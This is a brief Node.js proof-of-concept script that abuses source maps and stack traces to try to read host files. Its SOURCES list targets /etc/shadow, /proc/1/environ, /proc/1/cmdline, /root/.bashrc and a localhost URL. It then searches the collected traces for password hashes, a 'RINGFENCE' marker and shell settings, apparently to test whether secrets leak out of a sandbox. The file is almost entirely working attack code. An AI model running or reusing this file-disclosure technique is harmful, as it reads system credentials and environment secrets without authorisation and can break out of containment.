// Read a host file: a source map may name any file as its source, and stack traces show lines of it.
'use strict';
const fs = require('node:fs');
const { findSourceMap } = require('node:module');

process.setSourceMapsEnabled(true);
const shown = [];
const SOURCES = ['/etc/shadow', '/proc/1/environ', '/proc/1/cmdline', '/root/.bashrc', 'http://127.0.0.1/x'];
SOURCES.forEach((source, index) => {
  const map = { version: 3, sources: [source.startsWith('/') ? `file://${source}` : source], names: [], mappings: 'AAAA' };
  fs.writeFileSync(`map${index}.json`, JSON.stringify(map));
  const urls = [`map${index}.json`, source, `data:application/json;base64,${Buffer.from(JSON.stringify(map)).toString('base64')}`];
  urls.forEach((url, which) => {
    const file = `/work/mapped${index}-${which}.js`;
    fs.writeFileSync(file, `module.exports = () => { throw new Error('here') };\n//# sourceMappingURL=${url}\n//# sourceURL=${source}`);
    try {
      require(file)();
    } catch (error) {
      shown.push(error.stack);
    }
    const found = findSourceMap(file);
    if (found?.payload.sourcesContent) shown.push(...found.payload.sourcesContent.map(String));
  });
});
const text = shown.join('\n');
console.log(`OUTCOME: ${shown.length} traces, secrets in them: ${/root:[*x!$]|RINGFENCE|PS1=/.test(text)}`);
